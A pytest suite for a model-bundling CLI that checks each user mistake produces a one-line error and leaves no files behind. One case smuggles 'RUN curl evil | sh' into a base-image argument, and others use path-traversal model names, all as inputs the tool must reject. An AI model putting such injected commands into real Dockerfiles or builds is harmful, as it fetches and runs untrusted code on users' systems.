"""Every user mistake: one line on stderr (`bundler: error: ...`), a non-zero exit, no
traceback, and nothing written (no bundle, no temporary tree, no new registry version).

Each case is (id, setup, command, exit code, text the message must contain). `setup`
prepares a valid project and then breaks one thing; `command` runs in its folder with a
registry that already holds `m:1`.
"""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import pytest

GOOD_SCRIPT = "def init():\n    pass\n\ndef run(raw):\n    return raw\n"
SAVE = ["save", "out", "--model", "m", "--entry-script", "score.py"]


def write(path: Path, text: str | bytes) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(text if isinstance(text, bytes) else text.encode())


def toml(text):
    return lambda p: write(p / "bundler.toml", text)


def script(text):
    return lambda p: write(p / "score.py", text)


def template(blocks):
    def setup(p):
        write(p / "t.jinja", '{% extends "Dockerfile.jinja" %}\n' + blocks)
        write(p / "bundler.toml", '[dockerfile]\ntemplate = "t.jinja"\n')

    return setup


def nothing(p):
    return None


def symlink_out_of_source(p):
    write(p / "src" / "score.py", GOOD_SCRIPT)
    write(p / "outside.txt", "secret")
    os.symlink(p / "outside.txt", p / "src" / "link.txt")


def symlink_out_of_model(p):
    write(p / "modeldir" / "w.bin", "w")
    write(p / "elsewhere.bin", "x")
    os.symlink(p / "elsewhere.bin", p / "modeldir" / "link.bin")


# One case a line: the table reads as a list of mistakes.
# fmt: off
CASES = [
    # CLI flags
    ("unknown flag", nothing, ["save", "out", "--modle", "m"], 2, "No such option '--modle'"),
    ("unknown command", nothing, ["sve"], 2, "No such command 'sve'"),
    ("register without --name", nothing, ["register", "model.bin"], 2, "Missing option '--name'"),
    ("register a missing path", nothing, ["register", "nope.bin", "--name", "x"], 2, "no such file or directory"),
    ("register a bad tag", nothing, ["register", "model.bin", "--name", "x", "--tag", "novalue"], 2, "KEY=VALUE"),
    ("port flag out of range", nothing, ["serve", "out", "--port", "70000"], 2, "70000 is not in the range"),
    # bundler.toml
    ("toml syntax error", toml('models = ["m"\n[inference]\n'), ["save", "out"], 2, "invalid TOML"),
    ("toml unknown key", toml('models = ["m"]\n[inference]\nentry_scirpt = "score.py"\n'), ["save", "out"], 2,
     "did you mean 'entry_script'?"),
    ("toml wrong type", toml('models = "m"\n'), ["save", "out"], 2, "'models' must be a list, not a string"),
    ("toml binary garbage", lambda p: write(p / "bundler.toml", b"\x00\xff\xfe garbage"), ["save", "out"], 2,
     "not a text file"),
    ("toml missing --config", nothing, ["save", "out", "--config", "missing.toml"], 2, "missing.toml not found"),
    ("toml password", toml('models = ["m"]\n[registry]\npassword = "hunter2"\n'), ["save", "out"], 2,
     "password_env"),
    ("toml port out of range", toml('models = ["m"]\n[inference]\nentry_script = "score.py"\n[server]\nport = 0\n'),
     ["save", "out"], 2, "port must be between 1 and 65535"),
    ("toml unknown engine", toml('models = ["m"]\n[inference]\nentry_script = "score.py"\n[server]\nengine = "x"\n'),
     ["save", "out"], 2, "engine must be one of"),
    # conda files
    ("conda file and requirements", lambda p: (write(p / "env.yml", "name: x\n"), write(p / "r.txt", "six\n")),
     SAVE + ["--conda-file", "env.yml", "--requirements", "r.txt"], 2, "a requirements file or a conda file, not both"),
    ("conda file missing", nothing, SAVE + ["--conda-file", "env.yml"], 2, "conda file"),
    ("conda file not a mapping", lambda p: write(p / "env.yml", "- numpy\n"), SAVE + ["--conda-file", "env.yml"],
     2, "env.yml:1: a conda file is a mapping"),
    ("conda file unknown key", lambda p: write(p / "env.yml", "name: x\ndependecies:\n  - numpy\n"),
     SAVE + ["--conda-file", "env.yml"], 2, "env.yml:2: unknown key 'dependecies'"),
    ("conda dependency not a string", lambda p: write(p / "env.yml", "dependencies:\n  - numpy\n  - 3.10\n"),
     SAVE + ["--conda-file", "env.yml"], 2, "env.yml:3: a dependency must be a string"),
    ("conda local channel", lambda p: write(p / "env.yml", "channels:\n  - file:///home/me/chan\ndependencies: []\n"),
     SAVE + ["--conda-file", "env.yml"], 2, "env.yml:2: channel file:///home/me/chan is a folder on this machine"),
    ("conda channel token", lambda p: write(p / "env.yml", "channels:\n  - https://conda.anaconda.org/t/tk-12345/me\n"),
     SAVE + ["--conda-file", "env.yml"], 2, "env.yml:2: channel URL holds a credential (/t/****/)"),
    ("conda pip SAS", lambda p: write(p / "env.yml", "dependencies:\n  - pip:\n    - https://a.blob.core.windows.net"
                                      "/w/p.whl?sv=2022-11-02&sig=hunter2hunter2\n"),
     SAVE + ["--conda-file", "env.yml"], 2, "env.yml:3: pip: a URL holds a credential (sig=****)"),
    ("conda invalid YAML", lambda p: write(p / "env.yml", "dependencies: [numpy\n"), SAVE + ["--conda-file", "env.yml"],
     2, "env.yml:2: not valid YAML"),
    ("conda pip builder asked, mkl", lambda p: write(p / "env.yml", "dependencies:\n  - mkl\n"),
     SAVE + ["--conda-file", "env.yml", "--conda-builder", "pip"], 2, "env.yml:2: mkl has no PyPI twin"),
    ("conda python disagrees", lambda p: (write(p / "env.yml", "dependencies:\n  - python=3.10\n"),
                                          write(p / "bundler.toml", '[environment]\npython = "3.12"\n')),
     SAVE + ["--conda-file", "env.yml"], 2, "asks for Python 3.10, but [environment] python is 3.12"),
    ("vendored wheels for another Python", nothing,
     [*SAVE, "--vendor", "--base-image", "python:3.12-slim"], 2,
     "python:3.12-slim runs Python 3.12, but the wheels would be vendored for Python 3.11"),
    ("python too old for the server", lambda p: write(p / "bundler.toml", '[environment]\npython = "3.9"\n'), SAVE, 2,
     'python 3.9 is too old: the scoring server needs Python 3.10 or newer; set python = "3.11"'),
    ("base image Python too old", nothing, [*SAVE, "--base-image", "python:3.8-slim"], 2,
     "python:3.8-slim runs Python 3.8, too old: the scoring server needs Python 3.10 or newer"),
    # a user Dockerfile template
    ("template type error", template('{% block labels %}\nLABEL port={{ "p" + plan.port }}\n{% endblock %}'), SAVE, 2,
     "your Dockerfile template line 3: TypeError: can only concatenate str"),
    ("template division by zero", template("{% block labels %}{{ 1 / 0 }}{% endblock %}"), SAVE, 2,
     "your Dockerfile template line 2: ZeroDivisionError"),
    # entry script
    ("entry script missing", nothing, [*SAVE[:4], "--entry-script", "absent.py"], 2, "absent.py not found"),
    ("entry script is a folder", lambda p: (p / "folder.py").mkdir(), [*SAVE[:4], "--entry-script", "folder.py"], 2,
     "is not a file"),
    ("entry script without .py", lambda p: write(p / "score", GOOD_SCRIPT), [*SAVE[:4], "--entry-script", "score"], 2,
     "must be a .py file"),
    ("entry script syntax error", script("def init(:\n"), SAVE, 2, "score.py:1: entry script has a syntax error"),
    ("entry script without run", script("def init():\n    pass\n"), SAVE, 2, "no top-level run()"),
    ("entry script without init", script("def run(raw):\n    return raw\n"), SAVE, 2, "no top-level init()"),
    ("entry script is binary", script(b"\x00\x01\x02"), SAVE, 2, "score.py"),
    ("raw-http script forced onto bundler engine",
     lambda p: (write(p / "score.py", "from azureml.contrib.services.aml_request import rawhttp\n" + GOOD_SCRIPT),
                write(p / "bundler.toml", '[server]\nengine = "bundler"\n')),
     SAVE, 2, 'engine = "azureml"'),
    # model references and registry names
    ("unknown model", nothing, ["save", "out", "--model", "nosuch", "--entry-script", "score.py"], 2,
     "model 'nosuch' is not registered"),
    ("unknown version", nothing, ["save", "out", "--model", "m:9", "--entry-script", "score.py"], 2,
     "has no version 9"),
    ("malformed reference", nothing, ["save", "out", "--model", "m:1:2", "--entry-script", "score.py"], 2,
     "invalid model reference"),
    ("path-like reference", nothing, ["save", "out", "--model", "../../etc:1", "--entry-script", "score.py"], 2,
     "invalid model name"),
    ("path-like register name", nothing, ["register", "model.bin", "--name", "../escape"], 2, "invalid model name"),
    ("show unknown model", nothing, ["models", "show", "ghost"], 2, "model 'ghost' is not registered"),
    # sources
    ("source dir missing", nothing,
     ["save", "out", "--model", "m", "--source-dir", "nope", "--entry-script", "score.py"],
     2, "--source-dir: source directory"),
    ("entry script ignored by .bundlerignore",
     lambda p: (write(p / "src" / "score.py", GOOD_SCRIPT), write(p / "src" / ".bundlerignore", "*.py\n")),
     ["save", "out", "--model", "m", "--source-dir", "src", "--entry-script", "score.py"], 2,
     "the entry script is left out of the source directory by a rule"),
    ("symlink out of the source directory", symlink_out_of_source,
     ["save", "out", "--model", "m", "--source-dir", "src", "--entry-script", "score.py"], 2,
     "outside the source directory"),
    ("symlink out of the model folder", symlink_out_of_model, ["register", "modeldir", "--name", "linked"], 2,
     "outside"),
    ("entry script outside the source directory", lambda p: write(p / "src" / "x.py", "x = 1\n"),
     ["save", "out", "--model", "m", "--source-dir", "src", "--entry-script", "../score.py"], 2,
     "must be inside the source directory"),
    ("source directory missing", nothing,
     ["save", "out", "--model", "m", "--source-dir", "nowhere", "--entry-script", "score.py"], 2, "not found"),
    # environment files, base image, registry
    ("requirements missing", nothing, [*SAVE, "--requirements", "reqs.txt"], 2, "requirements file"),
    ("requirements include missing", lambda p: write(p / "reqs.txt", "-r base.txt\n"),
     [*SAVE, "--requirements", "reqs.txt"], 2, "reqs.txt:1: includes base.txt, which is not a file"),
    ("requirements include outside", lambda p: (write(p / "env" / "reqs.txt", "-r ../base.txt\n"),
                                                write(p / "base.txt", "six\n")),
     [*SAVE, "--requirements", "env/reqs.txt"], 2, "move it there"),
    ("requirements local path", lambda p: write(p / "reqs.txt", "numpy==2.4.6\n-e ./mypkg\n"),
     [*SAVE, "--requirements", "reqs.txt"], 2, "reqs.txt:2: -e ./mypkg installs a folder on this machine"),
    ("requirements password in a URL",
     lambda p: write(p / "reqs.txt", "--index-url https://me:hunter2@pypi.example/simple\n"),
     [*SAVE, "--requirements", "reqs.txt"], 2, "a URL holds a credential (****:****@)"),
    ("base image injection", nothing, [*SAVE, "--base-image", "python:3.11\nRUN curl evil | sh"], 2,
     "not an image reference"),
    ("registry address with a path", toml('[registry]\naddress = "other.io/x"\nusername = "u"\npassword_env = "P"\n'),
     SAVE, 2, "is not a registry host name"),
    ("password_env holding a password",
     toml('[registry]\naddress = "docker.io"\nusername = "u"\npassword_env = "hunter2!"\n'),
     SAVE, 2, "NAME of an environment variable"),
    # output paths and bundles
    ("output is a file", lambda p: write(p / "out", "a file"), SAVE, 1, "is not a folder"),
    ("output is somebody's folder", lambda p: write(p / "out" / "thesis.tex", "work"), SAVE, 1, "not a bundle"),
    ("verify a non-bundle", lambda p: (p / "out").mkdir(), ["verify", "out"], 1, "is not a bundle"),
    ("serve a non-bundle", lambda p: (p / "out").mkdir(), ["serve", "out"], 1, "is not a bundle"),
]
# fmt: on


@pytest.fixture(scope="module")
def registry(tmp_path_factory):
    home = tmp_path_factory.mktemp("home")
    model = home / "model.bin"
    model.write_bytes(b"weights")
    done = subprocess.run(
        [sys.executable, "-m", "bundler", "register", str(model), "--name", "m", "--home", str(home)],
        capture_output=True,
        text=True,
    )
    assert done.returncode == 0, done.stderr
    return home


def registry_state(home: Path) -> list[str]:
    return sorted(p.relative_to(home).as_posix() for p in home.rglob("*") if p.is_file() and "tmp" not in p.parts)


def test_there_are_at_least_25_cases():
    assert len(CASES) >= 25 and len({c[0] for c in CASES}) == len(CASES)


@pytest.mark.parametrize("name, setup, command, code, expected", CASES, ids=[c[0] for c in CASES])
def test_bad_input(tmp_path, registry, name, setup, command, code, expected):
    write(tmp_path / "score.py", GOOD_SCRIPT)
    write(tmp_path / "model.bin", "weights")
    setup(tmp_path)
    before_tree = sorted(p.relative_to(tmp_path).as_posix() for p in tmp_path.rglob("*"))
    before_registry = registry_state(registry)
    env = {**os.environ, "BUNDLER_HOME": str(registry)}
    done = subprocess.run(
        [sys.executable, "-m", "bundler", *command], cwd=tmp_path, env=env, capture_output=True, text=True, timeout=60
    )
    lines = done.stderr.splitlines()
    assert done.returncode == code, done.stderr
    assert len(lines) == 1 and lines[0].startswith("bundler: error: "), done.stderr
    assert expected in lines[0]
    assert "Traceback" not in done.stderr + done.stdout
    assert sorted(p.relative_to(tmp_path).as_posix() for p in tmp_path.rglob("*")) == before_tree
    assert registry_state(registry) == before_registry


def test_debug_shows_the_traceback(tmp_path, registry):
    write(tmp_path / "score.py", GOOD_SCRIPT)
    env = {**os.environ, "BUNDLER_HOME": str(registry)}
    done = subprocess.run(
        [sys.executable, "-m", "bundler", "--debug", "save", "out", "--model", "ghost", "--entry-script", "score.py"],
        cwd=tmp_path,
        env=env,
        capture_output=True,
        text=True,
    )
    assert done.returncode != 0
    assert "Traceback (most recent call last)" in done.stderr and "ModelNotFound" in done.stderr


def test_a_closed_pipe_is_not_an_error_message(tmp_path, registry):
    # `bundler models list | head -1`: the reader left; nothing more to say.
    env = {**os.environ, "BUNDLER_HOME": str(registry)}
    done = subprocess.Popen(
        [sys.executable, "-m", "bundler", "models", "list"],
        cwd=tmp_path,
        env=env,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    )
    done.stdout.close()  # before it writes a byte
    stderr = done.stderr.read().decode()
    done.wait(60)
    assert stderr == "" and done.returncode == 1
